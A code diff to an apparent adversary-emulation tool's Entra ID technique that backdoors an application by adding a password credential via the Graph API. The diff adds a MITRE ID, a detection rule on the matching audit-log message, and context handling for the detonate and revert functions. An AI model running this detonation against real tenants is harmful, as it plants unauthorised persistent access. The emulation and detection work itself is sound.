@@ -43,23 +43,30 @@ References:
 		Detection: `
 Using [Entra ID audit logs](https://learn.microsoft.com/en-us/entra/identity/monitoring-health/concept-audit-logs) with the activity type <code>Update application – Certificates and secrets management</code>.
 `,
-		Platform:                   stratus.EntraID,
-		IsIdempotent:               false,
-		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Persistence, mitreattack.PrivilegeEscalation},
+		Platform:              stratus.EntraID,
+		IsIdempotent:          false,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Persistence, mitreattack.PrivilegeEscalation},
+		MitreAttackTechniques: []string{"T1098.001"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"properties.message": {"Update application – Certificates and secrets management"}},
+			},
+			FalsePositives: []string{"Administrators rotating the credentials of applications"},
+		},
 		PrerequisitesTerraformCode: tf,
-		Detonate:                   detonate,
-		Revert:                     revert,
+		DetonateWithContext:        detonate,
+		RevertWithContext:          revert,
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	objectId := params["object_id"]
 	appId := params["app_id"]
 	graphClient := providers.EntraId().GetGraphClient()
 
 	log.Println("Backdooring Entra ID application " + objectId + " by creating a new password credential")
 
-	credentials, err := graphClient.Applications().ByApplicationId(objectId).AddPassword().Post(context.Background(), nil, nil)
+	credentials, err := graphClient.Applications().ByApplicationId(objectId).AddPassword().Post(ctx, nil, nil)
 	if err != nil {
 		return errors.New("could not create password credential: " + err.Error())
 	}
@@ -89,12 +96,12 @@ az login --service-principal --allow-no-subscriptions \
 	return nil
 }
 
-func revert(params map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	objectId := params["object_id"]
 	graphClient := providers.EntraId().GetGraphClient()
 
 	log.Println("Listing password credentials for application " + objectId)
-	application, err := graphClient.Applications().ByApplicationId(objectId).Get(context.Background(), nil)
+	application, err := graphClient.Applications().ByApplicationId(objectId).Get(ctx, nil)
 	if err != nil {
 		return errors.New("could not retrieve application: " + err.Error())
 	}
@@ -103,7 +110,7 @@ func revert(params map[string]string, providers stratus.CloudProviders) error {
 		log.Println("Deleting password credential with key ID " + (*credential.GetKeyId()).String())
 		req := graphmodels.NewPasswordCredential()
 		req.SetKeyId(credential.GetKeyId())
-		err := graphClient.Applications().ByApplicationId(objectId).RemovePassword().Post(context.Background(), req, nil)
+		err := graphClient.Applications().ByApplicationId(objectId).RemovePassword().Post(ctx, req, nil)
 		if err != nil {
 			return errors.New("could not delete password credentials: " + err.Error())
 		}